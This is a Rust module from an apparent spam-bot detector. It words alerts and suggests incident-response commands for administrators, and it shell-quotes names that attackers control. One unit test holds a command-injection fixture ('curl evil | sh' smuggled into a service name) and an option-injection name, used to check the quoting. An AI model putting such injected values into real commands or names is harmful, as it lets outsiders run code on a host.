//! What an alert says to the administrator: what would have cleared the subject, and what to do next. Pure functions of
//! the alert.

use crate::alert::{Alert, Who};
use crate::attempt::Attempt;
use crate::detect::{Finding, Kind, Severity};

/// What it would have taken to clear the subject, a sentence for each test and one for the signs.
pub(super) fn clear(alert: &Alert) -> Vec<String> {
    let latest = |kind| alert.findings.iter().rev().find(move |finding| finding.kind == kind);
    let mut sentences: Vec<String> = alert.tests().into_iter().filter_map(latest).map(of_test).collect();
    let weighed = alert.findings.iter().max_by(|a, b| a.evidence.prior.total_cmp(&b.evidence.prior));
    sentences.extend(weighed.and_then(of_signs));
    sentences
}

fn of_test(finding: &Finding) -> String {
    let evidence = &finding.evidence;
    let n = evidence.to_clear;
    let kind = finding.kind;
    match kind {
        Kind::FanOut => format!(
            "{kind}: {} to destinations it had been to before, ten minutes apart, as a program with one smart host makes \
             them (three count for each destination); it met {} instead, and {}.",
            count(n.into(), "more attempt"),
            count(evidence.destinations.into(), "destination"),
            match evidence.in_favour {
                0 => "never went back".to_owned(),
                again => format!("went back {}", times(again)),
            },
        ),
        Kind::ManyPrograms => format!(
            "{kind}: {} by a program that this user had run before, or to a destination that one of them had been to; \
             instead {} went to new places.",
            count(n.into(), "more attempt"),
            count(evidence.against.into(), "new program"),
        ),
        Kind::Hammer => format!(
            "{kind}: {} of two minutes with few attempts, as a program has that waits before it tries again; {} had too many.",
            count(n.into(), "more stretch").replace("stretchs", "stretches"),
            evidence.against,
        ),
        Kind::Persistent => format!(
            "{kind}: {} of ten minutes without a new destination, as a program has that is done for the day; {} in a row \
             brought new ones.",
            count(n.into(), "more stretch").replace("stretchs", "stretches"),
            evidence.against,
        ),
        Kind::LocalPath => format!(
            "{kind}: {} with no more mail than in its own past; there were {} with more, and {} handed over in all.",
            count(n.into(), "stretch").replace("stretchs", "stretches"),
            evidence.against,
            count(evidence.local, "mail"),
        ),
    }
}

fn of_signs(finding: &Finding) -> Option<String> {
    let evidence = &finding.evidence;
    let against: Vec<&str> = evidence.signs.iter().filter(|sign| sign.weight > 0.0).map(|s| s.sign.as_str()).collect();
    if against.is_empty() || evidence.prior <= 0.0 {
        return None;
    }
    let alone = if evidence.walk >= evidence.threshold {
        "but its attempts alone would have been enough"
    } else {
        "and without them its attempts alone would not have been enough yet"
    };
    Some(format!(
        "The signs ({}) brought it {:.1} of {:.1} nearer, {alone}.",
        against.join(", "),
        evidence.prior,
        evidence.threshold
    ))
}

/// What to do next, the first thing first: a sentence each, and below it, each in a line of its own, commands that can be
/// copied.
pub(super) fn next(alert: &Alert) -> Vec<String> {
    let mut steps = Vec::new();
    if let Some(worst) = &alert.worst {
        look(alert, worst, &mut steps);
        cause(&alert.who, worst, &mut steps);
    }
    for kind in alert.tests() {
        steps.push(of_kind(kind, &alert.who));
    }
    close(alert, &mut steps);
    steps
}

/// What is still to be seen of the process.
fn look(alert: &Alert, worst: &Attempt, steps: &mut Vec<String>) {
    if worst.pid == 0 {
        if let Some(address) = &alert.who.address {
            let sentence = format!(
                "The mail comes from {address}, behind this host: find that machine and look there. From here only its \
                 packets are seen."
            );
            let near = arg(address).map(|address| format!("ip neigh show {address}"));
            // Which port of a bridge a card is behind.
            let port = alert.who.mac.as_ref().map(|mac| format!("bridge fdb show | grep -i {mac}"));
            steps.push(step(&sentence, &[near, port].into_iter().filter(Option::is_some).collect::<Vec<_>>()));
        }
        return;
    }
    let pid = worst.pid;
    let commands = [
        format!("portreeve explain --pid {pid}"),
        format!("ls -l /proc/{pid}/exe /proc/{pid}/cwd"),
        format!("tr '\\0' ' ' < /proc/{pid}/cmdline"),
    ];
    steps.push(step("See what it is, while it runs:", &commands.map(Some)));
    if worst.exe_deleted || worst.exe_in_memory {
        let from = if worst.exe_in_memory { "was never a file" } else { "is deleted" };
        let kept = format!("/root/alert-{}.bin", alert.id);
        steps.push(step(
            &format!("Its program {from}, and is gone when the process ends. Keep a copy first:"),
            &[Some(format!("cp /proc/{pid}/exe {kept} && sha256sum {kept}"))],
        ));
    } else if let Some(sha256) = &alert.sha256 {
        steps.push(format!("Ask whoever you trust with lists of malware for its SHA-256, {sha256}."));
    }
    if alert.severity == Severity::Critical {
        let parent = worst.parents.first().filter(|parent| parent.pid > 1);
        let parent = parent.map_or(String::new(), |parent| {
            format!(" Its parent, {} ({}), may start it again.", parent.comm, parent.pid)
        });
        steps.push(step(
            &format!("Stop it, look at it in peace, then end it.{parent}"),
            &[Some(format!("kill -STOP {pid}")), Some(format!("kill -KILL {pid}"))],
        ));
    }
}

/// Where it may come from.
fn cause(who: &Who, worst: &Attempt, steps: &mut Vec<String>) {
    let user = who.user.as_deref().and_then(arg);
    // The nearest one that is known for starting things.
    let line = [&worst.comm].into_iter().chain(worst.parents.iter().map(|parent| &parent.comm));
    let by = |names: &[&str], comm: &str| names.iter().any(|name| comm.starts_with(name));
    let starter = line.into_iter().find(|comm| by(&WEB, comm) || by(&CRON, comm)).map_or("", String::as_str);
    if by(&WEB, starter) {
        let sentence = format!(
            "A web server started it: look in the access log for POST requests about {}, and for a web shell or a form \
             that sends mail among the files that are new:",
            worst.time.strftime("%Y-%m-%d %H:%M UTC")
        );
        let find = |user| format!("find /var/www -user {user} -newermt '-14 days' -type f");
        steps.push(step(&sentence, &[user.map(find)]));
    } else if by(&CRON, starter) {
        steps.push(step(
            "cron started it: find the job, and let it hand its mail to the local mail server (MAILTO=, or sendmail) \
             instead of connecting to port 25 itself:",
            &[
                user.map(|user| format!("crontab -l -u {user}")),
                Some("grep -r . /etc/crontab /etc/cron.d /etc/cron.hourly /etc/cron.daily".to_owned()),
            ],
        ));
    } else if let Some(session) = &worst.session {
        let status = arg(session).map(|session| format!("loginctl session-status {session}"));
        let sentence = format!("It was started in login session {session}; see who that is, and from where:");
        steps.push(step(&sentence, &[status, user.map(|user| format!("last -i {user}"))]));
    } else if let Some(unit) = worst.unit.as_deref().filter(|_| worst.container.is_none()) {
        let commands = match arg(unit) {
            Some(unit) => [Some(format!("systemctl status {unit}")), Some(format!("journalctl --since -1h -u {unit}"))],
            None => [None, None],
        };
        steps.push(step(&format!("It belongs to {unit}; see what that is at:"), &commands));
    }
    contained(worst, steps);
}

/// Containers, and the mail servers in them.
fn contained(worst: &Attempt, steps: &mut Vec<String>) {
    if let Some(container) = &worst.container {
        let runtime = container.runtime.as_str();
        let id = arg(&format!("{:.12}", container.id)).filter(|_| matches!(runtime, "docker" | "podman"));
        let commands = match id {
            Some(id) => [Some(format!("{runtime} top {id}")), Some(format!("{runtime} diff {id}"))],
            None => [None, None],
        };
        let sentence = format!(
            "It runs in the {runtime} container {:.12}; see what is there that its image does not have:",
            container.id
        );
        steps.push(step(&sentence, &commands));
    }
    if is_mail_server(worst) {
        let within = if worst.container.is_some() { " in a container" } else { "" };
        steps.push(format!(
            "It is a mail server{within} that nobody has sanctioned. Let it use this host's mail server as its smart host \
             (Postfix: relayhost = [ADDRESS OF THIS HOST]; Exim: a manualroute router), or sanction it with a rule."
        ));
    }
}

/// What is particular to a test.
fn of_kind(kind: Kind, who: &Who) -> String {
    let user = who.user();
    let name = who.user.as_deref().and_then(arg);
    match kind {
        Kind::FanOut => step(
            "See whether anything got out before it was found, and if so whether this host is on a block list:",
            &[Some("portreeve attempts --since 1d --json | jq -c 'select(.verdict == \"allow\")'".to_owned())],
        ),
        Kind::ManyPrograms => step(
            &format!(
                "Something of {user}'s keeps making programs: find what starts them, and end that first, or they come back \
                 under new names:"
            ),
            &[name.map(|name| format!("ps -fu {name} --forest"))],
        ),
        Kind::Hammer => {
            "If it is a program of yours that retries without waiting, set its retry interval to minutes, or \
                         let it use 127.0.0.1:25. A bot that knows one open relay looks the same."
                .to_owned()
        }
        Kind::Persistent => step(
            &format!(
                "It is slow and patient, so something that lasts has started it: look at {user}'s timers and jobs:"
            ),
            &[Some("systemctl list-timers --all".to_owned()), name.map(|name| format!("crontab -l -u {name}"))],
        ),
        Kind::LocalPath => step(
            "The mail is in the local queue, or out already. Look; hold what is left (Postfix: postsuper -h ALL; Exim: \
             exim -Mf ID); read one before you delete any:",
            &[Some("mailq".to_owned())],
        ),
    }
}

/// How the alert is closed.
fn close(alert: &Alert, steps: &mut Vec<String>) {
    let id = alert.id;
    let user = alert.who.euid.filter(|euid| *euid != 0).map(|_| alert.who.user());
    let mend = match user.filter(|_| alert.severity == Severity::Critical) {
        Some(user) => format!(
            "If it is a spam bot: whoever put it there could run programs as {user}. Mend the way in, change that user's \
             passwords and keys, then:"
        ),
        None => "If it is a spam bot: mend the way in, then:".to_owned(),
    };
    steps.push(step(&mend, &[Some(format!("portreeve alerts resolve {id} --as spam-bot"))]));
    let allow = format!("portreeve alerts allow {id}");
    steps.push(step("If it may send: have the narrowest rule for it proposed:", &[Some(allow)]));
    let resolve = format!("portreeve alerts resolve {id} --as misconfigured");
    steps.push(step("If it is only set up wrongly: mend it, then:", &[Some(resolve)]));
}

/// A sentence with its commands.
fn step(sentence: &str, commands: &[Option<String>]) -> String {
    // A name with a line end in it would pass for a command.
    let sentence = sentence.replace(char::is_control, " ");
    let lines = [sentence].into_iter().chain(commands.iter().flatten().cloned());
    lines.collect::<Vec<_>>().join("\n")
}

/// A name as an argument of a command that somebody may copy into root's shell. Cgroups, and with them units, sessions and
/// containers, are named by those who make them: what the shell would read is quoted, and what the command would take for
/// an option is no argument.
fn arg(name: &str) -> Option<String> {
    let harmless = |c: char| c.is_ascii_alphanumeric() || "@%_+=:,./-".contains(c);
    if name.is_empty() || name.starts_with('-') || name.contains(char::is_control) {
        None
    } else if name.chars().all(harmless) {
        Some(name.to_owned())
    } else {
        Some(format!("'{}'", name.replace('\'', r"'\''")))
    }
}

fn is_mail_server(worst: &Attempt) -> bool {
    let name = worst.exe.as_deref().and_then(|exe| exe.rsplit('/').next()).unwrap_or_default();
    MAIL_SERVERS.contains(&name)
}

/// Programs behind web pages, by the beginnings of their thread names.
const WEB: [&str; 8] = ["apache2", "httpd", "nginx", "php-fpm", "lighttpd", "caddy", "gunicorn", "uwsgi"];

/// What starts jobs by the clock.
const CRON: [&str; 3] = ["cron", "anacron", "atd"];

/// The executables of mail servers that connect to port 25 themselves. This only words an advice: who is one for the
/// detector is decided elsewhere, with more care.
const MAIL_SERVERS: [&str; 9] =
    ["smtp", "exim4", "exim", "sendmail", "qmail-remote", "opensmtpd", "smtpd", "dma", "courieresmtp"];

fn count(n: u64, what: &str) -> String {
    format!("{n} {what}{}", if n == 1 { "" } else { "s" })
}

fn times(n: u32) -> String {
    match n {
        0 => "never".to_owned(),
        1 => "once".to_owned(),
        n => format!("{n} times"),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::alert::examples;
    use crate::attempt::Parent;
    use crate::subject::Container;

    #[test]
    fn each_test_has_a_sentence_on_what_clears_it_and_one_on_what_to_do() {
        let mut seen = Vec::new();
        for kind in Kind::ALL {
            let mut alert = examples::alert();
            alert.findings.iter_mut().for_each(|finding| finding.kind = kind);
            let cleared = clear(&alert);
            assert!(cleared[0].starts_with(kind.name()) && cleared[0].ends_with('.'), "{cleared:?}");
            assert!(cleared[0].contains("12 "), "to_clear is not in: {cleared:?}");
            let what = of_kind(kind, &alert.who);
            assert!(next(&alert).contains(&what));
            assert!(!seen.contains(&what));
            seen.push(what);
        }
    }

    fn steps(change: impl FnOnce(&mut Attempt)) -> String {
        let mut alert = examples::alert();
        change(alert.worst.as_mut().unwrap());
        next(&alert).join("\n")
    }

    #[test]
    fn the_steps_fit_what_was_seen() {
        assert!(steps(|_| {}).contains("web shell"));
        assert!(steps(|w| w.parents[0].comm = "cron".into()).contains("crontab -l -u www-data"));
        let deleted = steps(|w| w.exe_deleted = true);
        assert!(deleted.contains("cp /proc/4711/exe /root/alert-17.bin"), "{deleted}");
        let contained = steps(|w| {
            w.container = Some(Container { runtime: "docker".into(), id: "0123456789abcdef".into() });
            w.exe = Some("/usr/lib/postfix/sbin/smtp".into());
            w.parents = vec![Parent { pid: 1, uid: 0, comm: "master".into(), exe: None }];
        });
        assert!(contained.contains("docker top 0123456789ab") && contained.contains("smart host"), "{contained}");
        assert!(
            contained.contains("Stop it, look at it in peace, then end it.\nkill -STOP 4711\nkill -KILL 4711\n"),
            "{contained}"
        );
        let session = steps(|w| {
            w.parents.clear();
            w.session = Some("7".into());
        });
        assert!(session.contains("loginctl session-status 7"), "{session}");
        assert!(steps(|w| w.parents.clear()).contains("systemctl status apache2.service"));
    }

    #[test]
    fn what_an_attacker_names_is_no_command() {
        let session = steps(|w| {
            w.parents.clear();
            w.unit = Some("x'; curl evil | sh #.service".into());
        });
        assert!(session.contains("\nsystemctl status 'x'\\''; curl evil | sh #.service'\n"), "{session}");
        let option = steps(|w| {
            w.parents.clear();
            w.unit = Some("-Hevil.service".into());
        });
        assert!(!option.contains("systemctl status"), "{option}");
        assert_eq!((arg("a\nb"), arg(""), arg("php@8.2.service")), (None, None, Some("php@8.2.service".to_owned())));
    }

    #[test]
    fn a_host_is_looked_for_where_it_is() {
        let mut alert = examples::alert();
        alert.who = Who { name: "the host 10.0.0.7".into(), address: Some("10.0.0.7".into()), ..Who::default() };
        if let Some(worst) = &mut alert.worst {
            (worst.pid, worst.parents) = (0, Vec::new());
        }
        let steps = next(&alert).join("\n");
        assert!(steps.contains("ip neigh show 10.0.0.7") && !steps.contains("/proc/"), "{steps}");
    }
}
